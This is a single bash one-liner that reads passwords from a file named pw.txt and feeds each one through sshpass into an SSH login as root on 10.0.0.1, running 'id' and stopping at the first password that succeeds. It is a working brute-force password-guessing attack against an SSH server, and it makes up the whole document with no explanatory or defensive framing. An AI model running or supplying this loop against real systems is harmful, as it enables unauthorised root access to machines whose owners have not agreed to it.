for p in $(cat pw.txt); do sshpass -p "$p" ssh root@10.0.0.1 id && break; done
